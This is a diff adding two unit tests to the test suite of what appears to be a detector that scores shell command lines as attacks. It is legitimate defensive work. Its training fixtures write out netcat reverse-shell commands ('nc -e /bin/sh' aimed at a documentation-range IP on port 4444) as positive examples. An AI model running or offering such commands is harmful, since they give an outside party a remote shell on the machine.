@@ -586,6 +586,33 @@ def test_without_ngrams_a_token_training_never_saw_weighs_nothing() -> None:
     assert model.score("ncat -e").value == model.score("zzz -e").value
 
 
+def test_with_ngrams_lower_only_an_unknown_word_raises_no_score() -> None:
+    pytest.importorskip("sklearn", reason="training needs the 'train' extra (scikit-learn)")
+    ts: Any = _train_scorer_module()
+    items = [ts.Item(g, 1, f"nc -e /bin/sh 203.0.113.{n} 4444") for n, g in enumerate("123")]
+    items += [ts.Item("breadth", 0, line) for line in ("ls -la", "git status", "make test")]
+    train = list(range(len(items)))
+    free = ts.Trainer(items).fit(train)
+    assert any(w > 0 for f, w in free.weights.items() if f.startswith(b"g:"))
+    lower = ts.Trainer(items, ngram_positive=False).fit(train)
+    assert not any(w > 0 for f, w in lower.weights.items() if f.startswith(b"g:"))
+    assert any(w > 0 for f, w in lower.weights.items() if f.startswith((b"t:", b"c:")))
+    # what an unknown word sharing a known attack word's n-grams adds through them
+    grams = {f for f in ts.line_features("/bin/shq -e") if f.startswith(b"g:")}
+    assert sum(free.weights.get(f, 0.0) for f in grams) > 0
+    assert sum(lower.weights.get(f, 0.0) for f in grams) <= 0
+
+
+def test_a_heavier_benign_class_weighs_more_against_an_attack() -> None:
+    ts: Any = _train_scorer_module()
+    items = [ts.Item("2", 1, "nc -e /bin/sh x"), ts.Item("breadth", 0, "ls"),
+             ts.Item("breadth", 0, "pwd")]  # fmt: skip
+    for benign in (1.0, 4.0):
+        w = ts.sample_weights(items, benign)
+        assert w[1] + w[2] == pytest.approx(benign * w[0])
+    assert list(ts.sample_weights(items)) == list(ts.sample_weights(items, ts.BENIGN))
+
+
 def test_the_ship_check_names_what_keeps_a_model_from_shipping() -> None:
     ts: Any = _train_scorer_module()
     eco = [{"set": f"eco{j}", "added_fp": 0.002} for j in range(5)]
